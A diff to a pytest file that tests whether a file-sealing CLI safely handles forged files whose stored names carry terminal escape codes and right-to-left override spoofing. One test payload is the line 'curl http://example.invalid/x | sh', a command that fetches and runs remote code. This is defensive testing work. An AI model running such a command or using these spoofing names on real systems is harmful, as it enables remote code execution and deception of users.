@@ -9,13 +9,20 @@ from pathlib import Path
 
 import pytest
 
-from labelers.keys import load_public_key
+from labelers.keys import (
+    generate_keypair,
+    load_public_key,
+    write_private_key,
+    write_public_key,
+)
 from labelers.seal import seal_file
 from scanner.names import safe_basename
 from tests.cli.test_protect import PASSPHRASE
-from tests.clirun import baomi, needs_script
+from tests.clirun import baomi
 
-pytestmark = needs_script
+# each test runs in this process (quick tier) and as the installed script (slow), see
+# tests/clirun.py; a test that only means something as a separate process is script_only
+pytestmark = pytest.mark.usefixtures("cli_mode_env")
 
 ESC = "\x1b"
 CSI = "\x9b"  # the one-character C1 form of ESC [
@@ -24,10 +31,19 @@ CLEAR = f"{ESC}[2J{ESC}[H"  # clears the screen
 RLO = "\u202e"  # right-to-left override: "txt.exe" shown as "exe.txt"
 
 
-def _forge(tmp_path: Path, env: dict[str, str], original_name: str) -> Path:
-    keys = tmp_path / "keys"
-    r = baomi("keys", "generate", "--name", "committee", "--out", str(keys), env=env)
-    assert r.returncode == 0, r.stderr
+@pytest.fixture(scope="module")
+def keys(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The committee's key pair, made once for the module. The private key's scrypt cost is
+    lowered (2**14): every `open` derives it again, and `keys generate` at the real cost is
+    tested in tests/cli/test_protect.py."""
+    where = tmp_path_factory.mktemp("keys")
+    key = generate_keypair("committee")
+    write_public_key(where / "committee.pub", key.public)
+    write_private_key(where / "committee.key", key, PASSPHRASE, scrypt_n=2**14)
+    return where
+
+
+def _forge(tmp_path: Path, keys: Path, original_name: str) -> Path:
     payload = tmp_path / "payload.txt"
     payload.write_text("curl http://example.invalid/x | sh\n", encoding="utf-8")
     forged = tmp_path / "share" / "会议纪要.docx.baomi"
@@ -75,13 +91,13 @@ def _no_terminal_controls(out: str) -> None:
     ],
 )
 def test_open_writes_a_safe_base_name(
-    tmp_path: Path, env: dict[str, str], original_name: str, expected: str
+    tmp_path: Path, env: dict[str, str], keys: Path, original_name: str, expected: str
 ) -> None:
-    forged = _forge(tmp_path, env, original_name)
+    forged = _forge(tmp_path, keys, original_name)
     cwd = tmp_path / "cwd"
     cwd.mkdir()
     r = baomi(
-        "open", str(forged), "--key", str(tmp_path / "keys" / "committee.key"),
+        "open", str(forged), "--key", str(keys / "committee.key"),
         "--reason", "核对", cwd=cwd, env=env,
     )  # fmt: skip
     assert r.returncode == 0, (r.stdout, r.stderr)
@@ -92,15 +108,15 @@ def test_open_writes_a_safe_base_name(
     out_dir = tmp_path / "outdir"
     out_dir.mkdir()
     r = baomi(
-        "open", str(forged), "--key", str(tmp_path / "keys" / "committee.key"),
+        "open", str(forged), "--key", str(keys / "committee.key"),
         "--reason", "核对", "--out", str(out_dir), env=env,
     )  # fmt: skip
     assert r.returncode == 0, (r.stdout, r.stderr)
     assert sorted(p.name for p in out_dir.iterdir()) == [expected]
 
 
-def test_info_escapes_every_header_string(tmp_path: Path, env: dict[str, str]) -> None:
-    forged = _forge(tmp_path, env, f"报告{ESC}[31m.docx")
+def test_info_escapes_every_header_string(tmp_path: Path, env: dict[str, str], keys: Path) -> None:
+    forged = _forge(tmp_path, keys, f"报告{ESC}[31m.docx")
     table = baomi("info", str(forged), env=env)
     assert table.returncode == 0, table.stderr
     _no_terminal_controls(table.stdout + table.stderr)
